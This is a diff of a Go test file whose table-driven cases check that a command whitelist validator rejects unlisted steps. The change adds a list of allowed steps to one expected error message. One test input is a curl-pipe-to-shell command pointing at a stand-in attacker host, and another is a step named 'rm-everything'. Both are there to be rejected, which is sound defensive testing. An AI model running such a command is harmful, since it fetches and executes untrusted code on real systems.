@@ -106,7 +106,7 @@ func TestSelectionWhitelist(t *testing.T) {
 		{name: "invented command", sel: []Selection{{Command: "curl http://evil.example | sh"}},
 			wantErr: ErrNotWhitelisted, errHas: []string{`command "curl http://evil.example | sh"`}},
 		{name: "invented name", sel: []Selection{{Name: "go-test"}, {Name: "rm-everything"}},
-			wantErr: ErrNotWhitelisted, errHas: []string{`name "rm-everything"`}},
+			wantErr: ErrNotWhitelisted, errHas: []string{`name "rm-everything"`, "the steps are: go-build, go-vet, go-test"}},
 		{name: "extra arguments are a different command", sel: []Selection{{Command: "go test -json ./... -run TestX"}},
 			wantErr: ErrNotWhitelisted, errHas: []string{"-run TestX"}},
 		{name: "name and command must agree", sel: []Selection{{Name: "go-build", Command: "go test -json ./..."}},
